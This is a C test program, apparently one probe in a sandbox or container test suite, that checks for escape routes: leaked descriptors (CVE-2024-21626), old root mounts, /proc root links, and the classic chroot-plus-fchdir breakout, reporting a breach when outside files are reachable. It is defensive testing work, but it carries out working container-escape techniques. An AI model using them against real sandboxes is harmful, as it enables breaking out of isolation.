/*
 * A2: a leaked directory descriptor or working directory (CVE-2024-21626), an
 * old root that is still mounted, and the links of /proc that lead out.
 *
 * argv: names of files that exist outside and must not be reachable.
 */
#include "attack.h"

#include <sys/stat.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void
list_descriptors(void)
{
	char path[32], target[PATH_MAX];
	struct stat st;
	ssize_t n;

	for (int fd = 0; fd < 4096; fd++) {
		if (fstat(fd, &st) == -1)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		target[strcspn(target, ":")] = '\0';
		printf("fd %d: %s\n", fd, target);
		if (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode))
			breach("fd %d is a file of the caller's", fd);
		refused(openat(fd, ".", O_PATH | O_CLOEXEC), "openat %d", fd);
	}
}

static void
show_cwd(void)
{
	char cwd[PATH_MAX];

	if (getcwd(cwd, sizeof(cwd)) == NULL || cwd[0] != '/')
		breach("no working directory inside: %s", cwd);
	else
		printf("cwd: %s\n", cwd);
}

/* The same file for a name that must not lead anywhere but to "/". */
static void
same_root(const char *name)
{
	struct stat root, st;

	if (stat("/", &root) == -1 || stat(name, &st) == -1)
		printf("%s: %s\n", name, outcome(errno));
	else if (root.st_dev != st.st_dev || root.st_ino != st.st_ino)
		breach("%s is another directory than /", name);
	else
		printf("%s: the root\n", name);
}

static void
look_for(const char *name)
{
	static const char *const prefixes[] = { "", "/..", "/proc/self/root",
		"/proc/self/root/..", "/proc/self/cwd/../../../..",
		"/proc/1/root", "/proc/1/cwd", "/proc/self/task/1/root",
		"/proc/thread-self/root", "/dev/fd/../../..", "/oldroot",
		"/.oldroot", "/old_root", "/.pivot_root", "/mnt", "/host" };
	char path[PATH_MAX];

	for (size_t i = 0; i < sizeof(prefixes) / sizeof(*prefixes); i++) {
		snprintf(path, sizeof(path), "%s%s", prefixes[i], name);
		if (access(path, F_OK) == 0)
			breach("%s is there", path);
	}
}

int
main(int argc, char *argv[])
{
	int root;

	list_descriptors();
	show_cwd();
	same_root("/..");
	same_root("/proc/self/root");
	same_root("/proc/self/root/..");
	same_root("/proc/self/cwd/../../..");
	same_root("/proc/1/root");
	for (int i = 1; i < argc; i++)
		look_for(argv[i]);

	/* The classic way out of a chroot: a root below the directory held. */
	root = open("/", O_PATH | O_DIRECTORY);
	mkdir("/tmp/below", 0755);
	refused(chroot("/tmp/below"), "chroot");
	tried(fchdir(root), "fchdir to the root held");
	tried(chdir("../../../.."), "chdir upwards");
	show_cwd();
	for (int i = 1; i < argc; i++)
		look_for(argv[i]);
	return verdict();
}
